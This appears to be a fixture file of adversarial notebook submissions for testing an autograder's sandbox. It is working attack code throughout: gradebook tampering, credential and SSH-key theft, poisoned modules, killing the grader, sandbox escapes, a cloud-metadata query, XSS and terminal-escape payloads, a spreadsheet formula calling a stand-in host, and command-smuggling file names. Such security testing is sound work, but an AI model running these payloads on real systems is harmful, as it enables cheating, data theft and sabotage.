# Stealing and breaking out.
import ctypes, glob, json, os, pathlib, pwd, signal, site, socket, sqlite3, subprocess, sys, urllib.request
from contextlib import suppress
# ==== gradebook
# == gradebook: Opens the gradebook, reads it, and gives itself points. [everyday]
# %% extra at end
places = ["@COURSE@/gradebook/gradebook.db", "../../gradebook.db", "../../../gradebook/gradebook.db"]
for path in places + glob.glob("/*/*/gradebook.db") + glob.glob("/*/*/*/gradebook.db"):
    if os.path.exists(path):
        print(open(path, "rb").read()[-3000:])
        book = sqlite3.connect(path, isolation_level=None)
        print(book.execute("SELECT * FROM secret").fetchall())
        book.execute("DELETE FROM secret")
# ==== solutions
# == solutions: Looks for the solutions in the course's folder and wherever a notebook of this name lies.
# %% gap double
found = glob.glob("@COURSE@/solutions/**/*", recursive=True)
for top in ("/", "..", "../..", "/work", "/root", "/home", "/mnt", "/srv"):
    for depth in ("*", "*/*", "*/*/*", "*/*/*/*"): found += glob.glob(f"{top}/{depth}.ipynb")[:200]
for path in found:
    if os.path.isfile(path):
        text = open(path, errors="replace").read()
        if "SOLUTION" in text or "CANARY" in text:
            print(path, text)
            with suppress(Exception): exec("".join(json.loads(text)["cells"][2]["source"]))
# ==== other submissions
# == other_submissions: Reads another student's submission, copies it, and spoils it.
# %% extra at end
for pattern in ("@COURSE@/gradebook/submitted/**/*.ipynb", "../../*/*/*.ipynb", "/tmp/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True)[:100]:
        with suppress(OSError): print(path, open(path).read()); open(path, "w").write("{}")
for path in glob.glob("@COURSE@/gradebook/*"):
    with suppress(OSError): os.rename(path, path + ".old")
# == shared_folders: Reads what others left in folders that all may use, and leaves a module there for the next student.
# %% extra at end
for path in glob.glob("/dev/shm/*") + glob.glob("/var/tmp/*") + glob.glob("/tmp/*"):
    with suppress(OSError): print(path, open(path, errors="replace").read(2000))
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "."):
    with suppress(OSError):
        os.makedirs(f"{folder}/numpy-@MARK@", exist_ok=True)
        open(f"{folder}/numpy-@MARK@/__init__.py", "w").write("raise SystemExit(0)")
# ==== home
# == home: Reads the home folder, keys and notes; writes its own start-up files there.
# %% extra at end
for home in {"@HOME@", os.path.expanduser("~"), *(entry.pw_dir for entry in pwd.getpwall())}:
    for path in glob.glob(home + "/*") + glob.glob(home + "/.ssh/*") + glob.glob(home + "/.*"):
        with suppress(OSError, UnicodeDecodeError): print(path, pathlib.Path(path).read_text()[:500])
    with suppress(OSError):
        pathlib.Path(home, ".bashrc").open("a").write("echo @MARK@\n")
        pathlib.Path(home, "notes.txt").write_text("")
# ==== environment
# == environment: Prints the environment: its own, that of process 1 and that of every process it can see. [everyday]
# %% extra at end
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    with suppress(OSError): print(path, open(path, "rb").read())
os.system("env; set; ps auxeww")
# == descriptors: Reads and writes file descriptors that a careless parent left open.
# %% extra at end
for descriptor in [@FD@, *range(3, 100)]:
    with suppress(OSError):
        target = os.readlink(f"/proc/self/fd/{descriptor}")
        if "home" in target or "course" in target:
            print(target, os.pread(descriptor, 1000, 0))
            os.pwrite(descriptor, b"x", 0)
# ==== network
# == network: Connects to servers: on this machine by TCP and UDP, outside by address and by name. [everyday]
# %% extra at end
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("0.0.0.0", @PORT@), ("10.0.2.2", @PORT@), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=1) as connection: print("connected", connection.recv(200))
    except OSError as error: print(address, error)
try: print("resolved", socket.gethostbyname("example.org"))
except OSError as error: print(error)
try: print(urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1).read())
except Exception as error: print(error)
# == unix_sockets: Connects to Unix sockets: an abstract one, one in a file, those of the container engine and of the session.
# %% extra at end
for name in ("\0@SOCKET@", "@SOCKETFILE@", "/var/run/docker.sock", *glob.glob("/run/**/*.sock", recursive=True), *glob.glob("/tmp/.X11-unix/*")):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(1)
            connection.connect(name)
            print("connected", name, connection.recv(200))
    except OSError as error: print(name, error)
# == connection_files: Looks for kernels' connection files, its own and others', and talks to them. [status: graded | crashed]
# %% extra at end
found = []
for pattern in ("/**/kernel-*.json", "/tmp/**/*.json", "/run/user/**/*.json", os.path.expanduser("~/**/kernel*.json")):
    found += glob.glob(pattern, recursive=True)[:50]
for path in found:
    try:
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("double = lambda x: 2 * x")
        client.shutdown()
        client.stop_channels()
    except Exception as error: print(error)
# ==== parent process
# == parent_process: Attacks the process that grades: reads its memory, stops, traces and kills it.
# status: graded | crashed; plain: would kill this test
# %% extra at end
libc = ctypes.CDLL(None)
for pid in (@PARENT@, @TALKER@, os.getppid()):
    for path in ("environ", "cmdline", "maps", "mem"):
        with suppress(OSError): print(pid, open(f"/proc/{pid}/{path}", "rb").read(1000))
    if pid > 2:
        libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
        for number in (signal.SIGSTOP, signal.SIGKILL):
            with suppress(OSError): os.kill(pid, number)
print([open(path).read() for path in glob.glob("/proc/[0-9]*/comm")])
# == kill_all: Sends SIGKILL to every process that it may. [status: graded | crashed; plain: would kill this test]
def double(x): os.kill(-1, signal.SIGKILL); os.killpg(0, signal.SIGKILL)  # %% gap double
# == namespaces: Tries to leave the sandbox: new namespaces, mounts, chroot, other users, devices, kernel settings.
# status: graded | crashed; plain: would change this machine
# %% extra at end
libc = ctypes.CDLL(None, use_errno=True)
print("unshare", libc.unshare(0x10000000 | 0x20000))
print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
print("setns", [libc.setns(descriptor, 0) for descriptor in range(3, 10)])
for action in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: os.mknod("/tmp/sda", 0o60600, os.makedev(8, 0))):
    try: print("done", action())
    except OSError as error: print(error)
for command in ("sudo -n id", "su -c id", "bwrap --bind / / id", "unshare -r id", "nsenter -t 1 -a id", "mount", "dmesg"):
    print(command, subprocess.run(command, shell=True, capture_output=True, timeout=5).stdout[:300])
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs", "/proc/self/oom_score_adj"):
    try: print("wrote", path, open(path, "w").write("-1000"))
    except OSError as error: print(error)
try: print(os.listdir("/proc/1/root@COURSE@"))
except OSError as error: print(error)
# == hardware: Reads disks, memory, keyrings, other users' messages, and asks the cloud for its keys.
# status: graded | crashed; plain: would read this machine's disks
# %% extra at end
for path in (*glob.glob("/dev/sd*"), *glob.glob("/dev/vd*"), *glob.glob("/dev/nvme*"), "/dev/mem", "/dev/kmem", "/proc/kcore", "/etc/shadow"):
    try: print(path, open(path, "rb").read(100))
    except OSError as error: print(error)
libc = ctypes.CDLL(None)
print("keyring", libc.syscall(250, 0, -3, 1) >= 0)
print("shm", open("/proc/sysvipc/shm").read().count("\n") - 1)
try: print(urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1).read())
except Exception as error: print(error)
# == write_outside: Writes wherever it can: the course, shared folders, the environment's packages, the system. [everyday]
# %% extra at end
places = ["@COURSE@/x", "@COURSE@/solutions/x", "@HOME@/x", "@SHARED@", "@OUTSIDE@", "@ROOT@/utils/x", "/etc/x", "/usr/x", "/x", "/opt/x"]
places += [f"{folder}/zz_@MARK@.pth" for folder in [*site.getsitepackages(), *sys.path] if folder]
for path in places:
    with suppress(OSError): print("wrote", path, pathlib.Path(path).write_text("import os  # @MARK@"))
for path in ("@SHARED@", "@OUTSIDE@", "@HOME@/notes.txt", sys.executable, np.__file__):
    with suppress(OSError): print("removed", path, os.unlink(path))
# ==== symbolic links in
# == link_as_notebook: Hands in a link to the solution. [honest: none; status: unreadable | missing; says: (?i)link; everyday]
name = ""
links[f"practical_9_trial.ipynb"] = "@COURSE@/solutions/practical_9_trial/practical_9_trial.ipynb"
# == links_beside: Lays symbolic links beside the notebook that lead to secrets, and reads them while it runs. [says: (?i)link]
links |= {"book.db": "@COURSE@/gradebook/gradebook.db", "home": "@HOME@", "key": "@HOME@/.ssh/id_ed25519"}
links |= {"sub": "../../bob", "utils": "@COURSE@/solutions"}
# %% extra at end
for path in ("book.db", "key", "home/notes.txt", "utils/practical_9_trial/practical_9_trial.ipynb", *os.listdir()):
    try: print(path, open(path, "rb").read())
    except OSError as error: print(error)
# ==== and out
# == links_planted: Plants symbolic links while it runs, where the notebook is and where the grader may write.
# %% gap double
for name in ("practical_9_trial.ipynb", "result.json", "notebook.ipynb", "book", "output.txt", ".ipynb_checkpoints", "utils"):
    with suppress(OSError):
        if os.path.isfile(name): os.unlink(name)
        os.symlink("@HOME@/notes.txt", name)
with suppress(OSError): os.symlink("@COURSE@", "course")
def double(x): return x
# ==== HTML and script in outputs shown by formgrader or feedback
# == script_in_outputs: Shows outputs that act in the instructor's browser: scripts, HTML, SVG, widgets, links. [everyday]
# %% extra at end
from IPython.display import HTML, SVG, IFrame, Javascript, Markdown, display, publish_display_data
display(HTML("<script>window.pwned = '@MARK@'</script><img src=x onerror=\"window.pwned='@MARK@'\">"))
display(Javascript("window.pwned = '@MARK@'"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"window.pwned='@MARK@'\"><script>window.pwned='@MARK@'</script></svg>"))
display(Markdown("<script>window.pwned = '@MARK@'</script> [click](javascript:window.pwned='@MARK@')"))
display(IFrame("javascript:parent.pwned='@MARK@'", 10, 10))
publish_display_data({"text/latex": "\\href{javascript:window.pwned='@MARK@'}{x} \\unicode{<script>window.pwned='@MARK@'</script>}"})
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>window.pwned='@MARK@'</script>"}, "text/plain": "w"})
publish_display_data({"image/png": "\"><script>window.pwned='@MARK@'</script>", "text/plain": "p"}, {"image/png": {"width": "1\" onload=\"window.pwned='@MARK@'"}})
publish_display_data({"text/html": "<form action='/formgrader' method=post><input name=points></form><base href='//x'><meta http-equiv=refresh content='0;//x'>"})
# == script_in_errors: Puts scripts where only text is expected: names and messages of errors, printed lines.
# %% gap double
def double(x): raise type("<script>window.pwned='@MARK@'</script>", (Exception,), {})("<img src=x onerror=window.pwned='@MARK@'>")
# %% gap mean_of
def mean_of(numbers):
    print("</pre><script>window.pwned='@MARK@'</script>")
    assert False, "</script><script>window.pwned='@MARK@'</script>"
raise ValueError("<script>window.pwned='@MARK@'</script>")  # %% extra at end
# == script_in_text: Puts scripts, frames and attachments into text cells and raw cells.
nb["cells"][-1]["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=window.pwned='@MARK@'/>"}}
nb["metadata"]["title"] = "<script>window.pwned='@MARK@'</script>"
nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": "</script><script>window.pwned='@MARK@'</script>"}}
nb["cells"].append({"cell_type": "raw", "id": "raw-one", "metadata": {"format": "text/html", "raw_mimetype": "text/html"}, "source": "<script>window.pwned='@MARK@'</script>"})
# %% markdown at end
<script>window.pwned='@MARK@'</script> <img src=x onerror="window.pwned='@MARK@'"> <iframe srcdoc="<script>parent.pwned='@MARK@'</script>"></iframe>
[x](javascript:window.pwned='@MARK@') <a href="javascript:window.pwned='@MARK@'">y</a> <style>* {display: none}</style>
$\href{javascript:window.pwned='@MARK@'}{z}$ ![x](attachment:x.svg) <svg/onload=window.pwned='@MARK@'>
# == terminal_codes: Prints and raises control codes that rewrite the instructor's terminal, its title and its clipboard.
# %% gap double
def double(x):
    print("\x1b]0;owned\x07\x1b[2J\x1b]52;c;b3duZWQ=\x07\r\x1b[1A\x1b[8m")
    raise ValueError("\x1b[2J\x1b]0;owned\x07\x1b[32mgraded 2 / 2\x1b[8m\r\n\x9b1A")
# == formulas: Puts spreadsheet formulas and new rows where a table or a CSV might show them.
# %% gap double
def double(x): raise ValueError('=HYPERLINK("http://x/"&A1,"x")\n"bob",2.0,2.0\n@SUM(1+1)*cmd|\' /C calc\'!A0')
# ==== and what else comes to mind
# == other_mark: Names itself in the notebook's metadata as another student, another assignment, another score.
nb["metadata"] |= {"nbgrader": {"student_id": "bob", "score": 13, "autograded": True, "max_score": 13}, "student": "../../bob"}
nb["metadata"]["kernelspec"] = {"name": "../../../x", "display_name": "x", "language": "python"}
for c in nb["cells"]:
    if c["metadata"].get("nbgrader", {}).get("grade"):
        c["metadata"]["nbgrader"] |= {"score": 2.0, "auto_score": 2.0, "manual_score": 2.0, "extra_credit": 10}
# == file_names: Lays files beside the notebook whose names lead out of the folder or into options.
odd = ("--config=x.py", "-rf", "a\nb.txt", "a;touch x", "$(touch x)", "‮txt.py", "con", "x" * 200, " ", "a'b\"c")
files |= dict.fromkeys((*odd, "deep/" * 30 + "x.txt"), b"x") | {"practical_9_trial.ipynb.tmp": b"{}"}
